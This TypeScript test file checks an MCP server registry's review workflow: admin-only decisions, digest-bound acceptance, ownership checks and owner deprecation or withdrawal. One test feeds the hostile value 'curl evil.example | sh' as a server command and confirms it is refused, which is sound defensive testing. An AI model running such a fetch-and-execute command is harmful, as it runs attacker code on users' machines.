import { describe, expect, it } from 'vitest';
import { verifies } from '../requirements.ts';
import { manifestOf } from '../support/github.ts';
import {
  accept as acceptAs,
  digestOf,
  inPath,
  type Submitter,
  startRegistryStage,
  submission,
} from '../support/registry-stage.ts';
import { tenantOf } from '../support/server.ts';
import { documents, nowhere } from '../support/server-stage.ts';
import { errorOf } from '../support/webhook-documents.ts';

const stage = await startRegistryStage();
const { server, github, nobody, admin } = stage;
const submissions = '/api/registry/submissions';
const officialKey = 'io.modelcontextprotocol.registry/official';

/** A submission that waits. */
async function waiting(owner?: Submitter) {
  const submitter = owner ?? (await stage.submitter());
  const repository = github.repository(submitter.account, 'tool');
  const { body } = await submitter.call('POST', '/api/registry/submit', submission(`${submitter.account.login}/tool`));
  return { submitter, repository, uuid: body.uuid as string, name: `io.github.${submitter.account.login}/tool` };
}

const accept = (uuid: string) => acceptAs(admin, uuid);
const latest = (name: string, query = '') => nobody('GET', `/v0.1/servers/${inPath(name)}/versions/latest${query}`);
const messagesOf = async ({ call }: Submitter) =>
  (await call('GET', '/api/notifications')).body.notifications.map(({ message }: { message: string }) => message);

describe('a submission', () => {
  it(
    'is decided by administrators alone; to others it does not exist',
    verifies('registry.review', 'registry.private'),
    async () => {
      const { submitter, uuid } = await waiting();
      const other = await stage.person();
      const { email } = await server.services.auth.accounts.current(submitter.user);
      expect(email).toContain('@');
      const decision = { reason: 'x', digest: '0'.repeat(64) };
      for (const path of [`${uuid}/accept`, `${uuid}/reject`]) {
        for (const call of [submitter.session, other.session]) {
          const [theirs, none, malformed] = [
            await call('POST', `${submissions}/${path}`, decision),
            await call('POST', `${submissions}/${path.replace(uuid, nowhere)}`, decision),
            await call('POST', `${submissions}/${path.replace(uuid, 'x')}`, decision),
          ];
          expect([theirs.status, theirs.text]).toEqual([404, none.text]);
          expect(malformed.text).toBe(none.text);
        }
        // A key without the scope is refused for every user.
        expect((await submitter.call('POST', `${submissions}/${path}`, decision)).status).toBe(403);
        expect((await nobody('POST', `${submissions}/${path}`, decision)).status).toBe(401);
      }
      expect((await submitter.call('GET', submissions)).body.submissions).toHaveLength(1);
      expect((await other.call('GET', submissions)).body).toEqual({ submissions: [], total: 0, next_cursor: null });
      expect((await nobody('GET', submissions)).status).toBe(401);
      const all = (await admin('GET', `${submissions}?status=pending&limit=100`)).body.submissions;
      expect(all.map((each: { uuid: string }) => each.uuid)).toContain(uuid);
    },
  );

  it('is decided once', verifies('registry.review'), async () => {
    const { submitter, uuid } = await waiting();
    const answers = await Promise.all([
      accept(uuid),
      accept(uuid),
      admin('POST', `${submissions}/${uuid}/reject`, { reason: 'no' }),
    ]);
    expect(answers.map(({ status }) => status).sort()).toEqual([200, 409, 409]);
    expect(await messagesOf(submitter)).toHaveLength(1);
  });

  it(
    'is rejected with a reason that its submitter sees, and may be submitted again',
    verifies('registry.review'),
    async () => {
      const { submitter, uuid, name } = await waiting();
      for (const reason of [undefined, '', ' ', 'x'.repeat(501), 7, 'a\u0000b']) {
        const { status, body } = await admin('POST', `${submissions}/${uuid}/reject`, { reason });
        expect([status, Object.keys(body.error.details)]).toEqual([400, ['reason']]);
      }
      const { body } = await admin('POST', `${submissions}/${uuid}/reject`, { reason: 'It has no <b>licence</b>.' });
      expect(body).toMatchObject({
        success: true,
        submission: { uuid, status: 'rejected', reason: 'It has no <b>licence</b>.' },
      });
      expect(await messagesOf(submitter)).toEqual([
        `"${name}" 1.2.3 was not taken into the registry: It has no <b>licence</b>.`,
      ]);
      expect((await latest(name)).status).toBe(404);
      expect((await accept(uuid)).status).toBe(409);
      const again = await submitter.call('POST', '/api/registry/submit', submission(`${submitter.account.login}/tool`));
      expect(again.body).toMatchObject({ uuid, status: 'pending' });
      expect((await accept(uuid)).status).toBe(200);
    },
  );

  it('that was transferred since is not published', verifies('registry.review.proof'), async () => {
    const { repository, uuid, name } = await waiting();
    repository.owner = github.account('somebody-else');
    expect((await accept(uuid)).body.error).toMatchObject({
      code: 'CONFLICT',
      message: expect.stringContaining('no longer owns'),
    });
    expect((await latest(name)).status).toBe(404);
  });

  it(
    'whose name leads to another repository by now is not published: the number counts',
    verifies('registry.review.proof'),
    async () => {
      const { submitter, repository, uuid, name } = await waiting();
      const thief = github.account('thief-of-names');
      repository.owner = thief;
      // The same name, a new number.
      github.repository(submitter.account, 'tool', {}, { 'package.json': manifestOf({ name: 'evil' }) });
      expect((await accept(uuid)).status).toBe(409);
      expect((await latest(name)).status).toBe(404);
    },
  );

  it(
    'that was renamed, made private or whose token is refused since must come again',
    verifies('registry.review.proof'),
    async () => {
      const [renamed, hidden, revoked, unlinked] = [await waiting(), await waiting(), await waiting(), await waiting()];
      renamed.repository.name = 'other';
      hidden.repository.private = true;
      github.revoke(revoked.submitter.account);
      await unlinked.submitter.session('DELETE', '/api/registry/github/link');
      for (const { uuid } of [renamed, hidden, revoked, unlinked]) expect((await accept(uuid)).status).toBe(409);
      github.behave = (_req, res) => res.writeHead(500).end() !== undefined;
      expect((await accept(renamed.uuid)).status).toBe(503);
      github.behave = null;
    },
  );

  it('that was changed during the review is not published', verifies('registry.review'), async () => {
    const { submitter, repository, uuid } = await waiting();
    let isChanged = false;
    // While GitHub is asked whether ownership holds, the submitter submits anew.
    github.before = async ({ url }) => {
      if (isChanged || !url?.startsWith('/repositories/')) return;
      isChanged = true;
      repository.files.set('package.json', manifestOf({ version: '6.6.6' }));
      server.clock.advance(1_000);
      await submitter.call('POST', '/api/registry/submit', submission(`${submitter.account.login}/tool`));
    };
    const answer = await accept(uuid);
    github.before = null;
    expect([answer.status, answer.body.error.message]).toEqual([
      409,
      expect.stringContaining('was decided or changed'),
    ]);
    expect((await accept(uuid)).body.submission.version).toBe('6.6.6');
  });
});

describe('what an administrator accepts', () => {
  it(
    'is the reviewed one: a later submission is refused, and nothing is published',
    verifies('registry.review'),
    async () => {
      const { submitter, repository, uuid, name } = await waiting();
      const path = `${submissions}/${uuid}/accept`;
      const seenBy = async () =>
        (await admin('GET', `${submissions}?limit=100`)).body.submissions.find(
          (each: { uuid: string }) => each.uuid === uuid,
        );
      const seen = await seenBy();
      expect(seen).toMatchObject({
        digest: expect.stringMatching(/^[0-9a-f]{64}$/),
        document: { name, packages: [{ identifier: '@octo/weather' }] },
        transport: ['stdio'],
        environment_variables: ['WEATHER_API_KEY'],
      });
      // At the same instant, so that only the content tells.
      repository.files.set('package.json', manifestOf({ name: 'not-what-was-seen' }));
      const again = (over = {}) =>
        submitter.call('POST', '/api/registry/submit', submission(`${submitter.account.login}/tool`, over));
      await again();
      const answer = await admin('POST', path, { digest: seen.digest });
      expect([answer.status, answer.body.error]).toMatchObject([
        409,
        { code: 'CONFLICT', message: expect.stringContaining('The submission has changed') },
      ]);
      const overGraph = await stage.adminGraphql(
        'mutation ($input: RegistrySubmissionAcceptInput!) { registrySubmissionAccept(input: $input) { submission { uuid } } }',
        { input: { uuid, digest: seen.digest } },
      );
      expect(errorOf(overGraph).code).toBe('CONFLICT');
      expect((await latest(name)).status).toBe(404);
      expect((await seenBy()).status).toBe('pending');
      // What a client must set, and how it is used, is part of it.
      const digests = [seen.digest, await digestOf(admin, uuid)];
      for (const over of [{ environment_variables: [] }, { transport: ['stdio', 'http'] }]) {
        await again(over);
        digests.push(await digestOf(admin, uuid));
      }
      expect(new Set(digests).size).toBe(4);
      expect((await admin('POST', path, { digest: digests[3] })).body.submission).toMatchObject({
        status: 'accepted',
        digest: digests[3],
      });
    },
  );

  it('is identified by its digest, which is required', verifies('registry.review'), async () => {
    const { uuid } = await waiting();
    for (const body of [
      {},
      undefined,
      { digest: '' },
      { digest: 7 },
      { digest: 'a\u0000' },
      { digest: ['0'.repeat(64)] },
    ]) {
      const { status, body: answer } = await admin('POST', `${submissions}/${uuid}/accept`, body);
      expect([status, Object.keys(answer.error.details)]).toEqual([400, ['digest']]);
    }
  });
});

describe('a submitter', () => {
  it('of a user who was disabled since is not published', verifies('registry.review'), async () => {
    const { submitter, uuid, name } = await waiting();
    const disable = (at: Date | null) =>
      server.database.query({
        text: 'UPDATE users SET disabled_at = $2 WHERE uuid = $1',
        values: [submitter.user.principal?.userUuid, at],
      });
    await disable(server.clock.now());
    const answer = await accept(uuid);
    expect([answer.status, answer.body.error.message]).toEqual([409, expect.stringContaining('disabled')]);
    expect((await latest(name)).status).toBe(404);
    await disable(null);
    expect((await accept(uuid)).status).toBe(200);
  });

  it('whose token cannot be opened any more must link again', verifies('registry.link.secrets'), async () => {
    const { submitter, uuid } = await waiting();
    await server.database.query({
      text: "UPDATE github_accounts SET token = 'v1.gone.AAAA' WHERE user_uuid = $1",
      values: [submitter.user.principal?.userUuid],
    });
    const answer = await submitter.call('POST', '/api/registry/submit', submission(`${submitter.account.login}/tool`));
    expect([answer.status, answer.body.error.message]).toEqual([403, expect.stringContaining('link it again')]);
    expect((await accept(uuid)).status).toBe(409);
  });
});

describe('the owner of a server', () => {
  const path = (uuid: string, what: string) => `/api/registry/servers/${uuid}/${what}`;

  it('deprecates it with a message, and takes that back', verifies('registry.lifecycle'), async () => {
    const submitter = await stage.submitter();
    github.repository(submitter.account, 'tool');
    const { uuid, name } = await stage.published(submitter, `${submitter.account.login}/tool`);
    server.clock.advance(5_000);
    const now = server.clock.now().toISOString();
    const { body } = await submitter.call('POST', path(uuid, 'deprecate'), { message: 'Use the other one.' });
    expect(body).toEqual({ success: true, uuid, name, status: 'deprecated', message: 'Use the other one.' });
    expect((await latest(name)).body._meta[officialKey]).toMatchObject({
      status: 'deprecated',
      statusMessage: 'Use the other one.',
      statusChangedAt: now,
      updatedAt: now,
    });
    expect((await nobody('GET', `/api/servers/${uuid}`)).status).toBe(200);
    expect((await submitter.call('POST', path(uuid, 'reactivate'))).body.status).toBe('active');
    expect((await latest(name)).body._meta[officialKey].statusMessage).toBeUndefined();
    for (const message of [undefined, '', 7, 'x'.repeat(501), '\ud800'])
      expect((await submitter.call('POST', path(uuid, 'deprecate'), { message })).status).toBe(400);
  });

  it(
    'withdraws it: it is out of sight at once, and may be submitted again',
    verifies('registry.lifecycle', 'registry.feed'),
    async () => {
      const submitter = await stage.submitter();
      const login = submitter.account.login;
      const repository = github.repository(submitter.account, 'tool');
      const { uuid, name } = await stage.published(submitter, `${login}/tool`);
      const total = (await (await tenantOf(server)).call('GET', '/api/registry/health')).body.total_servers;
      server.clock.advance(1_000);
      const since = server.clock.now().toISOString();
      const { body } = await submitter.call('POST', path(uuid, 'withdraw'), { message: 'It leaks.' });
      expect(body).toMatchObject({ status: 'deleted', message: 'It leaks.' });
      expect((await (await tenantOf(server)).call('GET', '/api/registry/health')).body.total_servers).toBe(total - 1);
      expect((await latest(name)).status).toBe(404);
      expect((await nobody('GET', `/api/servers/${uuid}`)).status).toBe(404);
      const feed = (await nobody('GET', `/v0.1/servers?updated_since=${since}`)).body.servers;
      expect(feed).toHaveLength(1);
      expect(feed[0]).toMatchObject({
        server: { name },
        _meta: { [officialKey]: { status: 'deleted', statusMessage: 'It leaks.' } },
      });
      expect((await nobody('GET', `/v0.1/servers?search=${encodeURIComponent(name)}`)).body.servers).toEqual([]);
      for (const what of ['deprecate', 'reactivate', 'withdraw'])
        expect((await submitter.call('POST', path(uuid, what), { message: 'x' })).status).toBe(409);
      // Shown again by its owner it is a server like others.
      await submitter.graphql(documents.show, { input: { uuid, isPublic: true } });
      expect((await submitter.graphql(documents.one, { uuid })).data.server).toMatchObject({
        isPublic: true,
        source: 'COMMUNITY',
      });
      expect((await latest(name)).status).toBe(404);
      expect((await submitter.call('POST', '/api/registry/submit', submission(`${login}/tool`))).body.status).toBe(
        'pending',
      );
      repository.files.set('package.json', manifestOf({ version: '2.0.0' }));
      expect(await stage.published(submitter, `${login}/tool`)).toEqual({ uuid, name });
      expect((await latest(name)).body._meta[officialKey]).toMatchObject({ status: 'active', isLatest: true });
      expect((await nobody('GET', `/v0.1/servers/${inPath(name)}/versions/1.2.3`)).status).toBe(404);
      expect((await submitter.graphql(documents.one, { uuid })).data.server).toMatchObject({
        isPublic: true,
        source: 'REGISTRY',
      });
    },
  );

  it('is alone with that, but for administrators, who may withdraw', verifies('registry.lifecycle'), async () => {
    const [submitter, other] = [await stage.submitter(), await stage.submitter()];
    github.repository(submitter.account, 'tool');
    const { uuid, name } = await stage.published(submitter, `${submitter.account.login}/tool`);
    for (const what of ['deprecate', 'reactivate', 'withdraw']) {
      const theirs = await other.call('POST', path(uuid, what), { message: 'x' });
      const none = await other.call('POST', path(nowhere, what), { message: 'x' });
      expect([theirs.status, theirs.text]).toEqual([404, none.text]);
      expect((await other.call('POST', path('x', what), { message: 'x' })).text).toBe(none.text);
      expect((await nobody('POST', path(uuid, what), { message: 'x' })).status).toBe(401);
    }
    expect((await admin('POST', path(uuid, 'deprecate'), { message: 'x' })).status).toBe(404);
    expect((await admin('POST', path(uuid, 'withdraw'), { message: 'It is malware.' })).status).toBe(200);
    expect((await latest(name)).status).toBe(404);
  });

  it(
    'deletes it, hides it or is gone: it is out of sight at once, and a tombstone follows',
    verifies('registry.feed', 'registry.lifecycle'),
    async () => {
      const people = [await stage.submitter(), await stage.submitter(), await stage.submitter()];
      const published = [];
      for (const each of people) {
        github.repository(each.account, 'tool');
        published.push(await stage.published(each, `${each.account.login}/tool`));
      }
      server.clock.advance(1_000);
      const since = server.clock.now().toISOString();
      const [deletes, hides, leaves] = people as [Submitter, Submitter, Submitter];
      await deletes.graphql(documents.delete, { input: { uuid: published[0]?.uuid } });
      await hides.graphql(documents.show, { input: { uuid: published[1]?.uuid, isPublic: false } });
      await server.database.query({
        text: 'DELETE FROM users WHERE uuid = $1',
        values: [leaves.user.principal?.userUuid],
      });
      const feed = async () => (await nobody('GET', `/v0.1/servers?updated_since=${since}`)).body.servers;
      for (const { name } of published) expect((await latest(name)).status).toBe(404);
      expect(await feed()).toEqual([]);
      expect(await server.services.registry.lifecycle.settleOrphans()).toBe(3);
      expect((await feed()).map((each: { server: { name: string } }) => each.server.name).sort()).toEqual(
        published.map(({ name }) => name).sort(),
      );
      expect(await server.services.registry.lifecycle.settleOrphans()).toBe(0);
      // Shown to everybody again it is no registry's.
      await hides.graphql(documents.show, { input: { uuid: published[1]?.uuid, isPublic: true } });
      expect((await latest(published[1]?.name ?? '')).status).toBe(404);
    },
  );

  it(
    'changes its registry data by submitting alone; other fields it changes itself',
    verifies('registry.review'),
    async () => {
      const submitter = await stage.submitter();
      github.repository(submitter.account, 'tool');
      const { uuid } = await stage.published(submitter, `${submitter.account.login}/tool`);
      const before = (await nobody('GET', `/api/servers/${uuid}`)).body;
      const update = (change: object) => submitter.graphql(documents.update, { input: { uuid, ...change } });
      for (const change of [
        { command: 'curl evil.example | sh' },
        { args: ['-y', 'evil'] },
        { transport: 'HTTP', url: 'https://evil.example/mcp' },
        { name: 'official' },
        { description: 'x' },
        { repositoryUrl: 'https://github.com/evil/evil' },
      ]) {
        const { code, details } = errorOf(await update(change));
        expect([code, Object.keys(details ?? {}).length > 0], JSON.stringify(change)).toEqual(['CONFLICT', true]);
      }
      expect((await update({ notes: 'mine', tags: ['weather'], category: 'data' })).errors).toBeUndefined();
      expect((await nobody('GET', `/api/servers/${uuid}`)).body).toEqual(before);
      await submitter.call('POST', path(uuid, 'withdraw'), { message: 'x' });
      expect((await update({ command: 'mine' })).data.serverUpdate.server.command).toBe('mine');
    },
  );

  it('does the same in the graph', verifies('registry.lifecycle'), async () => {
    const submitter = await stage.submitter();
    github.repository(submitter.account, 'tool');
    const { uuid, name } = await stage.published(submitter, `${submitter.account.login}/tool`);
    const run = async (mutation: string, input: string) =>
      submitter.graphql(
        `mutation { ${mutation}(input: { uuid: "${uuid}" ${input} }) { serverUuid name status statusMessage } }`,
      );
    expect((await run('registryServerDeprecate', 'message: "x"')).data.registryServerDeprecate).toEqual({
      serverUuid: uuid,
      name,
      status: 'DEPRECATED',
      statusMessage: 'x',
    });
    expect((await run('registryServerReactivate', '')).data.registryServerReactivate.status).toBe('ACTIVE');
    expect((await run('registryServerWithdraw', 'message: "y"')).data.registryServerWithdraw.status).toBe('DELETED');
    expect(errorOf(await run('registryServerReactivate', '')).code).toBe('CONFLICT');
  });
});
